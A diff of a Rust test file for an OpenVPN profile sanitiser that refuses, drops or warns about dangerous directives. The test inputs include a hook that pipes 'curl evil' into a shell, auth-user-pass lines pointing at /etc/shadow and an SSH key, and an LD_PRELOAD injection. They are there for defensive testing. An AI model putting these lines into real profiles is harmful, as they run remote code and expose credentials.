@@ -1,10 +1,11 @@
 //! Lines that do harm, or would if they were taken.
 
+use egress_core::catalog::OnHooks;
 use egress_core::fault::{Faults, Finding, Severity};
-use egress_core::openvpn::{SIZE_MAX, parse};
+use egress_core::openvpn::{self, SIZE_MAX};
 
 use crate::profiles::{parsed, written};
-use crate::templates::sound;
+use crate::templates::{parse, sound};
 
 /// What stands in a sound profile from its second line on; the directive and the line, counted
 /// within, of the one fault that this makes.
@@ -31,9 +32,6 @@ const REFUSED: &[(&str, Option<&str>, u32)] = &[
     ("pkcs11-id x", Some("pkcs11-id"), 1),
     ("engine dynamic", Some("engine"), 1),
     ("iproute /tmp/x", Some("iproute"), 1),
-    ("ipchange /tmp/x", Some("ipchange"), 1),
-    ("route-up /tmp/x", Some("route-up"), 1),
-    ("route-pre-down /tmp/x", Some("route-pre-down"), 1),
     ("tls-verify /tmp/x", Some("tls-verify"), 1),
     ("auth-user-pass-verify /tmp/x via-env", Some("auth-user-pass-verify"), 1),
     ("client-connect /tmp/x", Some("client-connect"), 1),
@@ -178,11 +176,6 @@ const REFUSED: &[(&str, Option<&str>, u32)] = &[
 
 /// Lines that are left out, each with a note of its directive.
 const DROPPED: &[(&str, &str)] = &[
-    ("up /tmp/evil", "up"),
-    ("up \"/bin/sh -c 'curl evil | sh'\"", "up"),
-    ("setenv opt up /tmp/evil", "up"),
-    ("--up /tmp/evil", "up"),
-    ("down /tmp/evil", "down"),
     ("script-security 3", "script-security"),
     ("auth-user-pass /etc/shadow", "auth-user-pass"),
     ("auth-user-pass ../../root/.ssh/id_rsa", "auth-user-pass"),
@@ -199,24 +192,18 @@ const DROPPED: &[(&str, &str)] = &[
     ("group root", "group"),
     ("verb 11", "verb"),
     ("verb 7", "verb"),
-    ("pull-filter accept \"\"", "pull-filter"),
-    ("pull-filter accept verb", "pull-filter"),
     ("setenv LD_PRELOAD /tmp/x.so", "setenv"),
     ("setenv PATH /tmp", "setenv"),
     ("setenv-safe X y", "setenv-safe"),
     ("ignore-unknown-option plugin", "ignore-unknown-option"),
     ("push-peer-info", "push-peer-info"),
     ("echo secret", "echo"),
-    ("local 10.0.0.1", "local"),
     ("lport 53", "lport"),
     ("bind", "bind"),
-    ("bind-dev eth0", "bind-dev"),
-    ("mark 255", "mark"),
     ("multihome", "multihome"),
     ("dev-node /tmp/tun", "dev-node"),
     ("dev tun99", "dev"),
     ("route 0.0.0.0 0.0.0.0 net_gateway", "route"),
-    ("route-nopull", "route-nopull"),
     ("route-gateway 10.0.0.1", "route-gateway"),
     ("redirect-gateway local", "redirect-gateway"),
     ("ifconfig 10.0.0.1 10.0.0.2", "ifconfig"),
@@ -232,9 +219,33 @@ const DROPPED: &[(&str, &str)] = &[
     ("persist-tun", "persist-tun"),
     ("mlock", "mlock"),
     ("nice -20", "nice"),
+    ("<dh>\nx\n</dh>", "dh"),
+];
+
+/// Lines that are left out although somebody may miss them: a warning each.
+const MISSED: &[(&str, &str)] = &[
+    ("pull-filter accept \"\"", "pull-filter"),
+    ("pull-filter accept verb", "pull-filter"),
+    ("local 10.0.0.1", "local"),
+    ("bind-dev eth0", "bind-dev"),
+    ("mark 255", "mark"),
+    ("route-nopull", "route-nopull"),
     ("shaper 100", "shaper"),
     ("cipher BF-CBC", "cipher"),
-    ("<dh>\nx\n</dh>", "dh"),
+    ("data-ciphers-fallback BF-CBC", "data-ciphers-fallback"),
+    ("redirect-private", "redirect-private"),
+];
+
+/// Programs that would run when the tunnel's network changes.
+const HOOKS: &[(&str, &str)] = &[
+    ("up /tmp/evil", "up"),
+    ("up \"/bin/sh -c 'curl evil | sh'\"", "up"),
+    ("setenv opt up /tmp/evil", "up"),
+    ("--up /tmp/evil", "up"),
+    ("down /tmp/evil", "down"),
+    ("ipchange /tmp/x", "ipchange"),
+    ("route-up /tmp/x", "route-up"),
+    ("route-pre-down /tmp/x", "route-pre-down"),
 ];
 
 fn spoilt(text: &str) -> String {
@@ -271,19 +282,62 @@ fn a_hostile_line_is_one_fault_and_not_several() {
     }
 }
 
+/// Reads a sound profile with this line in it. What is found of the line has this class.
+#[track_caller]
+fn is_left_out(text: &str, directive: &str, on_hooks: OnHooks, class: Severity) {
+    let read = openvpn::parse(&spoilt(text), on_hooks);
+    let (config, findings) = read.unwrap_or_else(|why| panic!("{text}: {why}"));
+    let told = findings.iter().any(|found| {
+        found.severity == class
+            && found.field.as_deref() == Some(directive)
+            && found.line == Some(2)
+    });
+    assert!(told, "{text:?}: {findings:?}");
+    assert_eq!(written(&config), written(&parsed(&sound())), "{text:?}");
+}
+
 #[test]
 fn what_is_left_out_is_noted_and_does_not_reach_openvpn() {
-    let plain = written(&parsed(&sound()));
     for (text, directive) in DROPPED {
-        let (config, findings) = parse(&spoilt(text)).unwrap_or_else(|why| panic!("{text}: {why}"));
-        let noted = findings.iter().any(|found| {
-            found.severity == Severity::Note
-                && found.field.as_deref() == Some(*directive)
-                && found.line == Some(2)
-        });
-        assert!(noted, "{text:?}: {findings:?}");
-        assert_eq!(written(&config), plain, "{text:?}");
+        is_left_out(text, directive, OnHooks::Refuse, Severity::Note);
     }
+}
+
+#[test]
+fn what_somebody_may_miss_is_left_out_with_a_warning() {
+    for (text, directive) in MISSED {
+        is_left_out(text, directive, OnHooks::Refuse, Severity::Warning);
+    }
+}
+
+#[test]
+fn commands_are_refused_or_left_out_with_a_warning_as_the_provider_says() {
+    for (text, directive) in HOOKS {
+        let found = faults(&spoilt(text));
+        assert_eq!(found.len(), 1, "{text:?}: {found:?}");
+        assert_eq!((found[0].field.as_deref(), found[0].line), (Some(*directive), Some(2)));
+        assert!(found[0].message.contains("--drop-hooks"), "{found:?}");
+        is_left_out(text, directive, OnHooks::Drop, Severity::Warning);
+    }
+}
+
+/// Whatever the provider says: without them the server would be checked less.
+#[test]
+fn commands_that_check_the_server_are_never_left_out() {
+    for text in ["tls-verify /tmp/x", "auth-user-pass-verify /tmp/x via-env", "plugin /tmp/x.so"] {
+        assert!(openvpn::parse(&spoilt(text), OnHooks::Drop).is_err(), "{text}");
+    }
+}
+
+#[test]
+fn what_means_nothing_outside_a_connection_means_nothing_inside_one() {
+    let block = "<connection>\nremote vpn.example 443\nconnect-retry-max 3\nverb 4\n</connection>";
+    let (config, findings) = parse(&spoilt(block)).unwrap();
+    assert_eq!(config.remotes.len(), 1);
+    let noted: Vec<_> = findings.iter().filter(|it| it.line.is_some_and(|at| at < 6)).collect();
+    assert_eq!(noted.iter().map(|it| it.line.unwrap()).collect::<Vec<_>>(), [4, 5], "{noted:?}");
+    let other = block.replace("verb 4", "fragment 1300");
+    assert_eq!(faults(&spoilt(&other))[0].line, Some(5));
 }
 
 #[test]
